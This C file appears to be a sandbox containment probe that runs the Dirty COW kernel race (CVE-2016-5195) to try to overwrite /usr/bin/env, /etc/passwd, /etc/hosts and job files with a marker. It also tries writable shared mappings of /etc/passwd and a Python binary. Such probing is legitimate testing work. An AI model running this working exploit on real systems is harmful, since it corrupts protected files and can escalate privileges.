#include "attempts.h"
#include <pthread.h>
#include <sys/stat.h>
/* CVE-2016-5195: write to a private copy while the copy is thrown away, until a write lands in the file. */
static char *page;
static volatile int over;
static void *discard(void *unused) {
  while (!over) madvise(page, 4096, MADV_DONTNEED);
  return unused;
}
static void race(const char *name, const char *path) {
  char before[32], after[32];
  int file = open(path, O_RDONLY);
  if (file == -1) return attempt(name, -1);
  if (pread(file, before, 32, 0) != 32) return record(name, "short");
  page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_t thread;
  over = 0;
  if (memory != -1 && pthread_create(&thread, NULL, discard, NULL) == 0) {
    for (int i = 0; i < 100000; i++)
      if (pwrite(memory, "GLOVEBOX", 8, (off_t)(uintptr_t)page) == -1) break;
    over = 1;
    pthread_join(thread, NULL);
  }
  if (memory != -1) close(memory);
  if (pread(file, after, 32, 0) != 32) return record(name, "short");
  record(name, memcmp(before, after, 32) ? "done" : "unchanged");
  munmap(page, 4096);
  close(file);
}
static long shared(long unused) {
  int file = open("/usr/bin/python3.11", O_RDONLY);
  return mmap(NULL, 4096 + unused, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0;
}
static long writable_later(long unused) {
  char *own = mmap(NULL, 4096 + unused, PROT_READ, MAP_SHARED, open("/etc/passwd", O_RDONLY), 0);
  return mprotect(own, 4096, PROT_READ | PROT_WRITE);
}
int main(void) {
  race("a program", "/usr/bin/env");
  race("the accounts", "/etc/passwd");
  race("the data", "/data/rows.csv");
  race("the job", "/work/main.c");
  race("the hosts", "/etc/hosts");
  in_child("shared and writable", shared, 0);
  in_child("writable afterwards", writable_later, 0);
  report();
}
